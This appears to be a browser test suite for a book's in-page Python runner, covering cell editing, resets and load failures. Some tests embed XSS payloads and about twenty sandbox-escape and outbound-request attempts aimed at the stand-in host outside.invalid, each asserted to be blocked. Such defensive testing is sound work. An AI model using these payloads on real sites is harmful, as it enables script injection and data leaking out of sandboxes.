"""Python in the page: every live cell of every chapter, and what a reader may do to them."""

from __future__ import annotations

import json
import random
import re
from collections.abc import Callable, Iterator
from hashlib import sha256
from pathlib import Path
from typing import Any, ClassVar

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route

from cpcore.ui import catalogue, network_lab
from scripts import serve
from tests.site.test_explorables import misplaced_text
from tests.support.accessibility import axe_findings
from tests.support.browser import (
    SCHEMES,
    Record,
    returning,
    scrolls_sideways,
    serving,
    visiting,
)
from tests.support.live_page import (
    BOOT_MS,
    ROOT,
    SETTLED,
    Desk,
    code_cells,
    notebooks,
    tags,
)

NOTEBOOKS = notebooks()
PAGE = NOTEBOOKS[0] + ".html"  # for what holds on every page with live cells
FREE = 2  # the cell of that page whose code is replaced here
PHONE = {"width": 390, "height": 844}
MAX_BYTES = 18e6  # of a first result, without matplotlib
STOP_MS = 1000


@pytest.fixture(scope="module", autouse=True)
def hosted(site: Path) -> None:
    """Without Python for the page there is nothing to test; with CI set the build has failed."""
    if not (site / "pyodide").exists():
        pytest.skip("the book was built without Python for the page")


@pytest.fixture(scope="module")
def started(address: str, browser: Browser) -> Iterator[tuple[Page, Record, list[str]]]:
    """A page whose Python has been started by the first cell, and the notes on the way."""
    with visiting(browser, address) as (page, seen):
        page.goto(address + PAGE)
        page.evaluate(
            """() => {
              window.notes = [];
              const note = document.querySelector(".cp-run-note");
              const list = () => window.notes.push(note.textContent);
              new MutationObserver(list).observe(note, { childList: true });
            }"""
        )
        assert not [r for r in seen.responses if "/pyodide/" in r.url], "fetched before Run"
        assert Desk(page).run(1).startswith("Ran in")
        assert [r for r in seen.responses if "/pyodide/" in r.url], "seen only after Run"
        yield page, seen, page.evaluate("window.notes")


@pytest.fixture
def desk(started: tuple[Page, Record, list[str]]) -> Iterator[Desk]:
    """That page; the book's code is back afterwards, and nothing was complained about."""
    page, seen, _ = started
    desk = Desk(page, seen)
    yield desk
    page.context.set_offline(False)
    if desk.button("Reset", FREE).get_attribute("aria-disabled") is None:
        desk.press("Reset", FREE)
    found = seen.outside + seen.complaints
    seen.clear()
    assert not found


def printed(text: str) -> str:
    """Text without addresses in memory, as nbval compares it."""
    return re.sub(r"0x[0-9a-f]{6,16}", "ADDRESS", text)


def stored_text(cell: Any) -> str:
    """The text that the page shows for the stored outputs of a cell."""
    parts = []
    for output in cell.outputs:
        data = output.get("data", {})
        if output.output_type == "stream":
            parts.append(output.text)
        elif "text/html" not in data and "image/png" not in data:
            parts.append(data["text/plain"] + "\n")
    return printed("".join(parts))


def stored_html(cell: Any) -> list[str]:
    """The HTML among the stored outputs of a cell."""
    found = [output.get("data", {}).get("text/html") for output in cell.outputs]
    return [html for html in found if html]


SAME_HTML = """([shown, html]) => {
  const stored = new DOMParser().parseFromString(html, "text/html").body;
  const parts = e => [".cp-say", ".cp-stage"].map(s => e.querySelector(s).innerHTML.trim());
  const marks = e => [...e.querySelectorAll(".cp-question")].map(q => q.dataset.question);
  const text = e => e.querySelector(".cp-quiz") ? marks(e).join()
    : e.querySelector(".cp-explorable") ? parts(e).join() : e.innerHTML.trim();
  return text(shown) === text(stored) ? "" : text(shown) + " !== " + text(stored);
}"""

# Runs cells one after the other; what each says, its text, and what differs from its stored HTML.
# One trip for a chapter: with a dozen for each cell the chapters would take a minute more.
RUN_CELLS = f"""async ([cells, settled, limit]) => {{
  const found = [];
  for (const [number, stored] of cells) {{
    const cell = document.querySelectorAll("div.cell")[number - 1];
    const note = cell.querySelector(".cp-run-note");
    cell.querySelector(`[aria-label="Run cell ${{number}}"]`).click();
    const end = performance.now() + limit;
    while (!new RegExp(settled).test(note.textContent) && performance.now() < end)
      await new Promise(done => setTimeout(done, 5));
    const boxes = [...cell.querySelectorAll(".cell_output > .output")];
    const html = boxes.filter(box => box.classList.contains("text_html"));
    found.push({{
      said: note.textContent,
      text: boxes.flatMap(box => [...box.querySelectorAll("pre")].map(e => e.textContent)).join(""),
      html: html.length === stored.length
        ? stored.map((each, i) => ({SAME_HTML})([html[i], each])).join("")
        : `${{html.length}} boxes of HTML, not ${{stored.length}}`,
    }});
    if (!note.textContent.startsWith("Ran in")) break;  // the later ones would only repeat it
  }}
  return found;
}}"""


@pytest.fixture(scope="module")
def reader(
    address: str, browser: Browser, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[BrowserContext, Record]]:
    """Someone who reads the chapters one after the other."""
    with returning(browser, address, tmp_path_factory.mktemp("reader")) as (context, seen):
        yield context, seen


@pytest.mark.parametrize("name", NOTEBOOKS)
def test_every_live_cell_run_from_the_top_shows_the_stored_output(
    address: str, reader: tuple[BrowserContext, Record], name: str
) -> None:
    faults = []
    context, seen = reader
    seen.clear()
    cells = dict(enumerate(code_cells(name), start=1))
    live = {number: cell for number, cell in cells.items() if "no-live" not in tags(cell)}
    with context.new_page() as page:
        page.goto(f"{address}{name}.html")
        assert page.locator("div.cell .cp-run").count() == len(live)
        wanted = [[number, stored_html(cell)] for number, cell in live.items()]
        found = page.evaluate(RUN_CELLS, [wanted, SETTLED, BOOT_MS])
        page.evaluate("localStorage.clear()")  # the next chapter is read for the first time
        for (number, cell), shown in zip(live.items(), found, strict=False):
            if not shown["said"].startswith("Ran in"):
                faults.append(f"cell {number}: {shown['said']} {shown['text']}")
            elif "nbval-ignore-output" not in tags(cell):
                text = printed(shown["text"])
                if text != stored_text(cell):
                    faults.append(f"cell {number}: {text!r} != {stored_text(cell)!r}")
                faults += [f"cell {number}: {shown['html']}"] if shown["html"] else []
        faults += seen.outside + seen.complaints
    assert not faults, "\n".join(faults)
    assert len(found) == len(live)


def test_loading_says_what_and_how_much(
    started: tuple[Page, Record, list[str]], site: Path
) -> None:
    sizes = json.loads((site / "pyodide/manifest.json").read_text())["files"]
    loaded = [size for name, size in sizes.items() if not name.endswith(".whl") or "numpy" in name]
    notes = [note for note in started[2] if "MB" in note]
    assert f"of {sum(loaded) / 1e6:.1f} MB" in notes[0]
    assert notes[0].startswith("Loading Python, numpy, cpcore: ")
    script = (ROOT / "book/assets/page/runner.js").read_text(encoding="utf-8")
    size = f"{sum(loaded) / 1e6:.0f} MB"
    assert f'SIZE = "{size}"' in script
    assert f"about {size}" in (ROOT / "book/index.md").read_text(encoding="utf-8")
    assert sum(loaded) <= MAX_BYTES


def test_explorables_say_that_their_pictures_are_stored(address: str, browser: Browser) -> None:
    for path, shown in ((PAGE, True), ("book/explorables.html", False)):
        with visiting(browser, address) as (page, _):
            page.goto(address + path)
            mode = page.locator(".cp-ready .cp-mode").first
            assert mode.is_visible() == shown, path
            assert mode.inner_text() == "stored pictures"


def test_only_pages_with_cells_load_the_runner(site: Path) -> None:
    pages = {p.relative_to(site).with_suffix("").as_posix(): p for p in site.rglob("*.html")}
    with_runner = {n for n, p in pages.items() if "page/runner" in p.read_text(encoding="utf-8")}
    assert with_runner == set(NOTEBOOKS)


def test_an_edited_cell_shows_its_own_output_and_reset_brings_the_book_back(desk: Desk) -> None:
    before = desk.cell(5).locator("pre").first.text_content()
    stored = desk.text(5)
    changed = desk.try_out(5, "print('the answer of case', 6 * 7)")
    assert changed == "the answer of case 42\n"
    assert "ran" in desk.note(5).inner_text().lower()
    desk.press("Reset", 5)
    assert desk.cell(5).locator("pre").first.text_content() == before
    assert desk.text(5) == stored
    assert desk.note(5).inner_text() == ""


def test_run_first_runs_the_earlier_cells_that_have_not_run(desk: Desk) -> None:
    desk.edit(4, "earlier = 'ran before'")
    assert desk.try_out(5, "print(earlier)") == "ran before\n"
    assert desk.note(4).inner_text().startswith("Ran in")
    desk.edit(4, "earlier = 'ran again, since it was edited'")
    desk.run(5)
    assert desk.text(5) == "ran again, since it was edited\n"
    for number in (4, 5):
        desk.press("Reset", number)


def test_run_all_above_starts_from_a_fresh_namespace(desk: Desk) -> None:
    desk.try_out(3, "left_over = 1")
    desk.press("Reset", 3)
    desk.edit(4, "print('left_over' in globals())")
    desk.note(4).evaluate("e => { e.textContent = ''; }")
    desk.press("Run all above", 4)
    assert desk.settled(4).startswith("Ran in")
    assert desk.text(4) == "False\n"
    desk.press("Reset", 4)


SLOW = "import time\nprint('begun')\ntime.sleep(2)\nprint('ended')"


def begin(desk: Desk, number: int, code: str = SLOW) -> None:
    """Run a cell that takes its time, as far as its first output."""
    desk.edit(number, code)
    desk.note(number).evaluate("e => { e.textContent = ''; }")
    desk.press("Run", number)
    says(desk, number, "begun")


def says(desk: Desk, number: int, text: str) -> None:
    """Wait until the outputs of a cell say this."""
    box = desk.cell(number).locator(".cell_output").element_handle()
    desk.page.wait_for_function("([e, t]) => e.textContent.includes(t)", arg=[box, text])


def test_a_cell_edited_while_it_runs_is_not_called_wrong_and_runs_again_when_asked(
    desk: Desk,
) -> None:
    begin(desk, FREE)
    desk.edit(FREE, "print('second')")
    assert desk.note(FREE).inner_text() == "Running"
    note = desk.note(FREE).element_handle()
    desk.page.wait_for_function("e => e.textContent !== 'Running'", arg=note)
    assert desk.note(FREE).inner_text() == "The output is of an earlier run."
    begin(desk, FREE)
    desk.edit(FREE, "print('second')")
    desk.field(FREE).press("Shift+Enter")
    says(desk, FREE, "second")
    assert desk.settled(FREE).startswith("Ran in")
    assert desk.text(FREE) == "second\n"


def test_what_a_cell_says_after_its_reset_is_not_shown(desk: Desk) -> None:
    stored = desk.text(5)
    begin(desk, 5)
    desk.press("Reset", 5)
    stop = desk.button("Stop", 5).element_handle()
    desk.page.wait_for_function("e => e.getAttribute('aria-disabled') === 'true'", arg=stop)
    assert desk.text(5) == stored
    assert desk.note(5).inner_text() == ""


def test_run_all_above_starts_over_although_the_first_cell_runs(desk: Desk) -> None:
    assert desk.try_out(3, "left_over = 1") == ""
    desk.press("Reset", 3)
    begin(desk, 1, SLOW + "\nprint('left_over' in globals())")
    desk.press("Run all above", FREE)
    says(desk, 1, "False")
    assert desk.settled(FREE).startswith("Ran in")
    desk.press("Reset", 1)


def test_cells_that_waited_for_a_wrong_one_wait_no_longer(desk: Desk) -> None:
    begin(desk, FREE, SLOW + "\n1 / 0")
    desk.press("Run", 4)
    assert desk.note(4).inner_text() == f"Waits for cell {FREE}."
    assert desk.settled(FREE) == "Ended with an error. The output is live."
    assert not desk.note(4).inner_text().startswith("Waits")


def test_an_import_that_the_page_does_not_carry_leaves_python_as_it_is(desk: Desk) -> None:
    desk.run(1)
    desk.seen.responses.clear()
    assert "ModuleNotFoundError" in desk.try_out(FREE, "import matplotlib.pyplot as plt")
    assert not desk.seen.responses, "Python was loaded again"


def test_streams_results_and_errors_are_shown_in_order(desk: Desk) -> None:
    desk.try_out(
        FREE,
        "import sys\nprint('<b>one</b>')\nprint('two', file=sys.stderr)\ndisplay(3)\n1 / 0",
    )
    texts = desk.outputs(FREE).all_text_contents()
    assert texts[:3] == ["<b>one</b>\n", "two\n", "3\n"]
    assert texts[3].endswith("line 5, in <module>\n    1 / 0\n    ~~^~~\nZeroDivisionError: "
                             "division by zero\n")  # fmt: skip
    assert "pyodide" not in texts[3]
    assert desk.note(FREE).inner_text() == "Ended with an error. The output is live."


HOSTILE = """
class Page:
    def _repr_html_(self):
        return '''<p id="kept" class="x" style="color: red" onclick="window.hit = 1">text</p>
        <script>window.hit = 2</script><img src="x" onerror="window.hit = 3">
        <img alt="" src="http://outside.invalid/a.png"><iframe srcdoc="<script>1</script>"></iframe>
        <a href="javascript:window.hit = 4">link</a><a href="JaVa\tscript:window.hit=4">link</a>
        <p style="background: url(http://outside.invalid/b.png)">a</p>
        <p style="background: \\\\75rl(http://outside.invalid/c.png)">b</p>
        <svg><script>window.hit = 5</script><image href="http://outside.invalid/d.png"/>
        <rect width="9" height="9" onload="window.hit = 6"
         fill="url(http://outside.invalid/e.svg#x)"/>
        <use href="http://outside.invalid/f.svg#x"/><style>@import "http://outside.invalid/g"</style>
        <animate onbegin="window.hit = 7" attributeName="x" dur="1s"/>
        <foreignObject><img src="x" onerror="window.hit = 8"></foreignObject></svg>
        <div class="cp-explorable" data-controls="{"><p>no explorable</p></div>
        <form action="http://outside.invalid/h"><button>go</button></form>
        <math><mtext><table><mglyph><style><img src="x" onerror="window.hit = 9"></style></table>
        <table background="http://outside.invalid/i"><tr><td>cell</td></tr></table>
        <link rel="stylesheet" href="http://outside.invalid/j"><base href="http://outside.invalid/">
        <meta http-equiv="refresh" content="0; url=http://outside.invalid/k">'''
Page()"""


def test_html_of_a_cell_is_shown_without_anything_that_runs_or_loads(desk: Desk) -> None:
    desk.edit(FREE, HOSTILE)
    assert desk.run(FREE).startswith("Ran in")
    box = desk.outputs(FREE)
    assert box.locator("#kept").inner_text() == "text"
    for link in box.locator("a").all():
        assert link.get_attribute("href") is None
    left = box.evaluate("e => [...e.querySelectorAll('*')].map(e => e.localName)")
    assert set(left) <= {"div", "p", "img", "a", "svg", "rect", "use", "table", "tbody", "tr", "td"}
    names = box.evaluate(
        "e => [...e.querySelectorAll('*')].flatMap(e => [...e.attributes].map(a => a.name))"
    )
    assert not {"onclick", "onerror", "onload", "onbegin", "src", "fill", "background"} & set(names)
    desk.page.wait_for_timeout(100)
    assert desk.page.evaluate("window.hit") is None
    # The policy of the page speaks up where an attribute is parsed, before we drop it.
    assert all("Content Security Policy" in c for c in desk.seen.complaints), desk.seen.complaints
    desk.seen.complaints.clear()


URL = "http://outside.invalid/x"
IMPORT = f'import("{URL}")'
WAYS = {
    "pyfetch": f"from pyodide.http import pyfetch\nawait pyfetch({URL!r})",
    "open_url": f"from pyodide.http import open_url\nopen_url({URL!r})",
    "urllib": f"import urllib.request\nurllib.request.urlopen({URL!r}, timeout=2)",
    "socket": "import socket\nsocket.create_connection(('outside.invalid', 80), 2).send(b'x')",
    "fetch": f"await js.fetch({URL!r})",
    "request": f"r = js.XMLHttpRequest.new()\nr.open('GET', {URL!r}, False)\nr.send()",
    "websocket": "js.WebSocket.new('ws://outside.invalid')",
    "event source": f"js.EventSource.new({URL!r})",
    "transport": "js.WebTransport.new('https://outside.invalid')",
    "worker": f"js.Worker.new({URL!r})",
    "cache": f"c = await js.caches.open('x')\nawait c.add({URL!r})",
    "font": f"await js.FontFace.new('x', 'url({URL})').load()",
    "importScripts": f"js.importScripts({URL!r})",
    "eval": f"await js.eval({IMPORT!r})",
    "run_js": f"from pyodide.code import run_js\nawait run_js({IMPORT!r})",
    "function": f"await js.Function.new({'return ' + IMPORT!r})()",
    "constructor": f"await js.Math.max.constructor({'return ' + IMPORT!r})()",
    "async constructor": "make = pyodide_js.loadPackage.constructor\n"
    f"await make({'return ' + IMPORT!r})()",
    "timer": f"js.setTimeout({IMPORT!r}, 0)",
    "package": f"await pyodide_js.loadPackage({URL + '.whl'!r})\nimport x",
    "another Python": "await js.loadPyodide(indexURL='http://outside.invalid/')",
    "messages": "js.postMessage('x')",
}


def test_no_way_leads_from_a_readers_python_to_another_site(
    started: tuple[Page, Record, list[str]], desk: Desk
) -> None:
    tries = ["import js, pyodide_js"]
    for way, code in WAYS.items():
        body = code.replace("\n", "\n    ")
        tries.append(f"try:\n    {body}\n    print({way!r}, 'works')")
        tries.append(f"except BaseException as error:\n    print({way!r}, 'fails')")
    said = desk.try_out(FREE, "\n".join(tries))
    assert said.splitlines() == [f"{way} fails" for way in WAYS]
    desk.page.wait_for_timeout(200)
    assert not started[1].outside


def test_no_object_of_python_still_holds_the_network(desk: Desk) -> None:
    said = desk.try_out(
        FREE,
        "import gc, js, sys\nfrom pyodide.ffi import JsProxy\n"
        "held = [o for o in gc.get_objects() if isinstance(o, JsProxy)]\n"
        "for m in list(sys.modules.values()):\n"
        "    values = list(getattr(m, '__dict__', {}).values())\n"
        "    held += [o for o in values if isinstance(o, JsProxy)]\n"
        "names = {str(getattr(o, 'name', '')) for o in held}\n"
        "print(names & {'fetch', 'XMLHttpRequest', 'WebSocket', 'Worker', 'eval', 'Function'})\n"
        "print([n for n in ('fetch', 'navigator', 'indexedDB', 'location') if hasattr(js, n)])",
    )
    assert said == "set()\n[]\n"


def test_the_check_would_see_a_request_of_a_worker(address: str, browser: Browser) -> None:
    with visiting(browser, address, bypass_csp=True) as (page, seen):
        page.goto(address + PAGE)
        page.evaluate(
            "url => new Worker(URL.createObjectURL(new Blob([`fetch('${url}').catch(() => 0)`])))",
            URL,
        )
        page.wait_for_timeout(500)
        assert seen.outside == [URL]


def test_without_network_everything_still_runs(desk: Desk) -> None:
    desk.page.context.set_offline(True)
    said = desk.try_out(
        FREE,
        "import numpy.fft, numpy.random, numpy.polynomial, json, decimal\n"
        "import cpcore.ui, cpcore.training_pitfalls\nprint(numpy.fft.fft([1, 0]).real)",
    )  # fmt: skip
    assert said == "[1. 1.]\n"


def test_a_live_explorable_is_drawn_by_python(desk: Desk) -> None:
    """Every entry, in random states, has the lines that it has outside of the browser.

    All but the merge-order explorer: it measures rounding, which differs between two machines.
    """
    rng = random.Random(4)
    asked = {
        name: [{c.name: rng.choice(c.values) for c in entry.controls} for _ in range(4)]
        for name, entry in catalogue.items()
        if name != "merge-order"
    }
    said = desk.try_out(
        FREE,
        f"import hashlib\nfrom cpcore.ui import catalogue\nasked = {asked!r}\n"
        "for name, states in asked.items():\n    for state in states:\n"
        "        text = catalogue[name].draw(**state)\n"
        "        print(name, hashlib.sha256(text.encode()).hexdigest())",
    )
    pairs = [(name, state) for name, states in asked.items() for state in states]
    drawn = [(name, catalogue[name].draw(**state).encode()) for name, state in pairs]
    assert said.splitlines() == [f"{name} {sha256(text).hexdigest()}" for name, text in drawn]


SAME_PICTURE = """(shown, html) => {
  const text = e => e.innerHTML.replace(/\\s+/g, " ").replace(/> </g, "><").trim();
  const drawn = document.createElement("div");
  drawn.innerHTML = html;
  return text(shown.querySelector(".cp-say")) + text(shown.querySelector(".cp-stage")) ===
    text(drawn);
}"""


def test_a_shown_explorable_is_drawn_by_python_beyond_the_stored_pictures(desk: Desk) -> None:
    desk.try_out(FREE, "from cpcore.ui import network_lab\nnetwork_lab")
    box = desk.outputs(FREE).locator(".cp-explorable")
    assert box.locator(".cp-mode").is_visible()
    assert box.locator(".cp-mode").inner_text() == "live: drawn by Python"
    desk.page.set_viewport_size(PHONE)
    box.get_by_label("x", exact=True).fill("9")  # the stored pictures end at 3 and 2
    box.get_by_label("w", exact=True).fill("-9")
    for step in range(1, 5):
        box.get_by_role("button", name="Step", exact=True).click()
        caption, *parts = network_lab.lines(x=9, w=-9, step=step)
        html = caption + "".join(parts)
        desk.page.wait_for_function(
            f"([e, html]) => ({SAME_PICTURE})(e, html)", arg=[box.element_handle(), html]
        )
        assert not misplaced_text(box), step
    desk.page.set_viewport_size({"width": 1280, "height": 720})


def test_a_readers_own_drawing_replaces_that_of_the_catalogue(desk: Desk) -> None:
    desk.try_out(
        FREE,
        "from dataclasses import replace\nfrom cpcore.ui import network_lab\n"
        "def drawing(**state):\n"
        "    return '<p>now ' + str(state['x']) + '</p>', '<p>live<script>1</script></p>'\n"
        "replace(network_lab, drawing=drawing)",
    )
    box = desk.outputs(FREE).locator(".cp-explorable")
    box.get_by_label("x", exact=True).fill("8")
    said = box.locator(".cp-say").element_handle()
    desk.page.wait_for_function("e => e.textContent === 'now 8'", arg=said)
    assert box.locator(".cp-stage").inner_html() == "<p>live</p>"


def test_a_letter_of_two_units_stays_one_letter_in_colored_code(desk: Desk) -> None:
    code = "x = \N{MATHEMATICAL ITALIC SMALL Y}"
    parts = desk.page.evaluate(
        "code => [...cpRunner.colored(code).childNodes].map(e => e.textContent)", code
    )
    assert "".join(parts) == code
    assert parts[-1] == code[-1]


def test_the_keyboard_runs_edits_and_leaves(desk: Desk) -> None:
    page = desk.page
    desk.button("Edit", FREE).focus()
    page.keyboard.press("Enter")
    field = desk.cell(FREE).locator("textarea")
    assert field.evaluate("e => e === document.activeElement")
    assert re.search("Escape, then Tab, leaves", field.get_attribute("aria-label") or "")
    page.keyboard.press("Control+A")
    page.keyboard.type("if True:\nprint('by key')")
    assert field.input_value() == "if True:\n    print('by key')", "Enter keeps the indentation"
    page.keyboard.press("Shift+Enter")
    assert desk.settled(FREE).startswith("Ran in")
    assert desk.text(FREE) == "by key\n"
    page.keyboard.press("Tab")
    assert field.input_value().endswith("    "), "Tab indents"
    page.keyboard.press("Control+A")
    page.keyboard.press("Tab")
    assert field.input_value() == "    if True:\n        print('by key')    "
    page.keyboard.press("Control+Z")
    assert field.input_value() == "if True:\n    print('by key')    ", "one step back"
    page.keyboard.press("Escape")
    page.keyboard.press("Tab")
    names = []
    for text in ("Run", "Done", "Reset"):
        focused = page.locator(":focus")
        names.append(focused.inner_text())
        assert focused.evaluate("e => parseFloat(getComputedStyle(e).outlineWidth)") >= 2, text
        page.keyboard.press("Tab")
    assert names == ["Run", "Done", "Reset"]
    status = page.locator(".cp-run-status[role=status]")
    assert status.inner_text() == f"Cell {FREE} has run."


def test_an_endless_loop_stops_within_a_second_and_the_next_run_works(desk: Desk) -> None:
    page = desk.page
    desk.edit(FREE, "print('begun')\nwhile True:\n    pass")
    desk.press("Run", FREE)
    page.wait_for_function("e => e.textContent.includes('begun')", arg=desk.cell(
        FREE).element_handle())  # fmt: skip
    waits = desk.page.evaluate(
        """() => new Promise(resolve => {
          const began = performance.now();
          const button = document.querySelectorAll(".cp-run")[1];
          const note = button.querySelector(".cp-run-note");
          const done = () => note.textContent.startsWith("Stopped");
          button.querySelector("[aria-label^='Stop']").click();
          const look = () => done() ? resolve(performance.now() - began) : setTimeout(look, 10);
          look();
        })"""
    )
    assert waits < STOP_MS
    assert page.locator(".cp-mode").first.inner_text() == "stored pictures"
    assert desk.text(FREE) == "begun\n"
    assert desk.try_out(FREE, "print(cpcore.__version__)").strip(), "cell 1 has run again"
    assert desk.note(1).inner_text().startswith("Ran in")


def test_a_stopped_cell_can_be_reset_also_where_it_was_not_edited(desk: Desk) -> None:
    stored = desk.text(3)
    endless = "import builtins\ndef print(*words):\n    builtins.print('begun')\n    while 1: 0"
    desk.edit(FREE, desk.field(FREE).input_value() + "\n" + endless)
    desk.press("Run", 3)
    says(desk, 3, "begun")
    desk.press("Stop", 3)
    assert desk.settled(3).startswith("Stopped")
    assert desk.text(3) == "begun\n"
    desk.press("Reset", 3)
    assert desk.text(3) == stored


def test_an_error_that_breaks_python_says_so_and_reaches_nothing(desk: Desk) -> None:
    """Leaves Python ended: the last test of this page."""
    text = IMPORT.encode()
    desk.edit(FREE, f"import ctypes\nctypes.CDLL(None).emscripten_run_script({text!r})")
    assert desk.run(FREE) == "Python ended: an error broke it. Run tries again."
    desk.page.wait_for_timeout(200)
    assert not desk.seen.outside
    assert all("fatal" in c or "eval is not" in c or "cause" in c for c in desk.seen.complaints)
    desk.seen.clear()


def test_an_edit_survives_a_reload_until_it_is_reset(address: str, browser: Browser) -> None:
    with visiting(browser, address) as (page, seen):
        desk = Desk(page)
        page.goto(address + PAGE)
        original = desk.cell(FREE).locator("pre").first.text_content()
        desk.edit(FREE, "print('mine')")
        page.reload()
        code = desk.cell(FREE).locator("pre").first
        assert code.text_content() == "print('mine')\n"
        assert desk.note(FREE).inner_text().startswith("Edited.")
        desk.press("Reset", FREE)
        assert code.text_content() == original
        page.reload()
        assert code.text_content() == original
        assert desk.note(FREE).inner_text() == ""
        assert not seen.complaints + seen.outside


def store(page: Page, value: str) -> None:
    """Put something where edits of the page are kept."""
    page.evaluate("v => localStorage.setItem('cp-edits:' + location.pathname, v)", value)


def test_an_edit_of_code_that_the_book_has_changed_stays_within_reach(
    address: str, browser: Browser
) -> None:
    edit = json.dumps([{"cell": FREE, "original": "the old code", "code": "print('old edit')"}])
    with visiting(browser, address) as (page, seen):
        desk = Desk(page)
        page.goto(address + PAGE)
        original = desk.cell(FREE).locator("pre").first.text_content()
        store(page, edit)
        page.reload()
        assert desk.cell(FREE).locator("pre").first.text_content() == original
        assert "has changed this cell" in desk.cell(FREE).locator(".cp-older").inner_text()
        page.get_by_role("button", name=f"Show my edit of cell {FREE}").click()
        assert desk.field(FREE).input_value() == "print('old edit')"
        page.reload()
        assert desk.cell(FREE).locator("pre").first.text_content() == "print('old edit')\n"
        store(page, edit)
        page.reload()
        page.get_by_role("button", name=f"Discard my edit of cell {FREE}").click()
        page.reload()
        assert not page.locator(".cp-older").count()
        assert desk.cell(FREE).locator("pre").first.text_content() == original
        assert not seen.complaints


@pytest.mark.parametrize("kept", ["{", "null", "7", '[{"cell": 1}]', "[null]"])
def test_whatever_lies_in_the_storage_the_page_works(
    address: str, browser: Browser, kept: str
) -> None:
    with visiting(browser, address) as (page, seen):
        page.goto(address + PAGE)
        store(page, kept)
        page.reload()
        assert Desk(page).button("Run", 1).is_visible()
        assert not seen.complaints


def test_with_storage_blocked_an_edit_lasts_until_the_reader_leaves(
    address: str, browser: Browser
) -> None:
    with visiting(browser, address) as (page, seen):
        page.add_init_script(
            """for (const name of ["getItem", "setItem", "removeItem"]) {
              const real = Storage.prototype[name];
              Storage.prototype[name] = function (key, value) {
                if (key.startsWith("cp-edits")) throw new Error("blocked");
                return real.call(this, key, value);
              };
            }"""
        )
        page.goto(address + PAGE)
        desk = Desk(page)
        desk.edit(FREE, "print('mine')")
        assert "keeps no edits" in desk.note(FREE).inner_text()
        assert desk.cell(FREE).locator("pre").first.text_content() == "print('mine')\n"
        assert not seen.complaints


def explorable_works(page: Page) -> bool:
    """A control of the first explorable changes its caption."""
    box = page.locator(".cp-explorable.cp-ready").first
    box.scroll_into_view_if_needed()
    before = box.locator(".cp-say").inner_html()
    chosen = box.locator("select").first
    chosen.select_option(index=int(chosen.evaluate("e => e.selectedIndex === 0 ? 1 : 0")))
    page.wait_for_function("e => !e.hasAttribute('aria-busy')", arg=box.element_handle())
    return box.locator(".cp-say").inner_html() != before


def test_from_disk_run_says_that_it_needs_the_served_site(site: Path, browser: Browser) -> None:
    with visiting(browser, "file://") as (page, seen):
        page.goto((site / PAGE).as_uri())
        assert "needs the served site" in Desk(page).run(FREE)
        assert explorable_works(page)
        assert not seen.complaints + seen.outside


def test_without_webassembly_run_says_so_and_explorables_work(
    address: str, browser: Browser
) -> None:
    """Forbidden by a policy, as a browser's own setting would forbid it."""

    def forbid(route: Route) -> None:
        answer = route.fetch()
        policy = {"content-security-policy": "script-src 'self' 'unsafe-inline'"}
        route.fulfill(response=answer, headers={**answer.headers, **policy})

    with visiting(browser, address) as (page, seen):
        page.context.route(f"**/{PAGE}", forbid)
        page.goto(address + PAGE)
        assert "needs WebAssembly" in Desk(page).run(FREE)
        assert explorable_works(page)
        assert not seen.outside
        assert all("WebAssembly" in complaint for complaint in seen.complaints)
        assert not [r for r in seen.responses if "/pyodide/" in r.url]


def test_a_file_that_is_missing_is_named(address: str, browser: Browser) -> None:
    with visiting(browser, address) as (page, seen):
        page.context.route("**/pyodide.asm.wasm*", lambda route: route.fulfill(status=404))
        page.goto(address + PAGE)
        said = Desk(page).run(1)
        assert said == "Python ended: pyodide.asm.wasm: the server answers 404. Run tries again."
        assert not seen.outside


def cut(content: bytes) -> bytes:
    """As a broken download leaves it."""
    return content[:-1000]


def changed(content: bytes) -> bytes:
    """As long as before."""
    return content[:-1] + bytes([content[-1] ^ 1])


class Damaging(serve.Handler):
    """Serves other files in place of some of the site. Through the driver 10 MB take a second."""

    instead: ClassVar[dict[str, Path]] = {}  # by name

    def translate_path(self, path: str) -> str:
        """The file behind an address."""
        found = super().translate_path(path)
        return str(self.instead.get(Path(found).name, found))


@pytest.mark.parametrize("damage", [cut, changed])
@pytest.mark.parametrize("pattern", ["numpy-*.whl", "pyodide.asm.wasm", "cpcore.zip"])
def test_a_damaged_file_is_refused_by_name(
    site: Path,
    browser: Browser,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    pattern: str,
    damage: Callable[[bytes], bytes],
) -> None:
    (path,) = (site / "pyodide").glob(pattern)
    damaged = tmp_path / path.name
    damaged.write_bytes(damage(path.read_bytes()))
    monkeypatch.setitem(Damaging.instead, path.name, damaged)
    with serving(site, Damaging) as home, visiting(browser, home) as (page, _):
        page.goto(home + PAGE)
        said = Desk(page).run(1)
        assert said == f"Python ended: {path.name}: damaged, and refused. Run tries again."
        monkeypatch.undo()
        if pattern == "cpcore.zip":
            assert Desk(page).run(1).startswith("Ran in")


SPY = """
const compile = WebAssembly.instantiateStreaming;
WebAssembly.instantiateStreaming = async (source, ...others) => {
  console.warn("compiles " + (await source).url);
  return compile(source, ...others);
};
"""


def test_webassembly_is_compiled_from_the_answer_of_the_network_itself(
    site: Path, browser: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A browser keeps what it has compiled of one; an answer that a script has built has no url."""
    spied = tmp_path / "runner-worker.js"
    spied.write_text(SPY + (site / "page" / spied.name).read_text(encoding="utf-8"), "utf-8")
    monkeypatch.setitem(Damaging.instead, spied.name, spied)
    with serving(site, Damaging) as home, visiting(browser, home) as (page, seen):
        page.goto(home + PAGE)
        assert Desk(page).run(1).startswith("Ran in")
        (line,) = [line for line in seen.complaints if "compiles" in line]
        assert f"compiles {home}pyodide/pyodide.asm.wasm?v=" in line


@pytest.mark.parametrize("name", ["manifest.json", "pyodide.asm.js", "python_stdlib.zip"])
def test_a_file_that_does_not_come_is_named(address: str, browser: Browser, name: str) -> None:
    with visiting(browser, address) as (page, _):
        page.context.route(f"**/pyodide/{name}*", lambda route: route.abort())
        page.goto(address + PAGE)
        assert Desk(page).run(1).startswith(f"Python ended: {name}: ")


def test_a_cell_that_is_not_live_says_why_and_has_no_buttons(
    site: Path, address: str, browser: Browser
) -> None:
    text = (site / PAGE).read_text(encoding="utf-8")
    marked = text.replace(
        '<div class="cell docutils container">', '<div class="cell tag_no-live docutils container">'
    )
    marked = marked.replace('<span class="nn">numpy</span>', '<span class="nn">torch</span>', 1)
    with visiting(browser, address) as (page, seen):
        page.context.route(
